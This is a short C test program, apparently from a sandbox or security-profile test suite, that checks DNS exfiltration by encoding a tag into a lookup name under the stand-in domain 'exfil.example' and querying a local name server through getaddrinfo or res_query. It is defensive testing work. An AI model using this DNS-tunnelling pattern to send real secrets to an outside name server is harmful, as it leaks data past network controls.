// SPDX-License-Identifier: MIT
/*
 * network: DNS exfiltration. The tag is sent as part of a name to the name
 * server the profile allows ($SEC_DNS_PORT on 127.0.0.1, set into the
 * resolver's state as a function's resolv.conf would name it). HOW =
 * getaddrinfo (a name outside the profile, through the libc resolver) or
 * res_query (libresolv's own query function).
 */
#include <arpa/inet.h>
#include <arpa/nameser.h>
#include <netdb.h>
#include <netinet/in.h>
#include <resolv.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "case.h"

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	char name[300];
	snprintf(name, sizeof(name), "%s.exfil.example", case_env("SEC_TAG"));
	if (res_init() < 0)
		return 1;
	_res.nscount = 1;
	_res.nsaddr_list[0].sin_family = AF_INET;
	_res.nsaddr_list[0].sin_port = htons((uint16_t)atoi(case_env("SEC_DNS_PORT")));
	_res.nsaddr_list[0].sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	_res.retrans = 1;
	_res.retry = 1;
	if (!strcmp(argv[1], "getaddrinfo")) {
		struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM}, *res;
		int e = getaddrinfo(name, "443", &hints, &res);
		fprintf(stderr, "getaddrinfo: %s\n", e ? gai_strerror(e) : "resolved");
	} else if (!strcmp(argv[1], "res_query")) {
		unsigned char answer[512];
		int n = res_query(name, ns_c_in, ns_t_a, answer, sizeof(answer));
		fprintf(stderr, "res_query: %d\n", n);
	} else {
		return 2;
	}
	return 0;
}
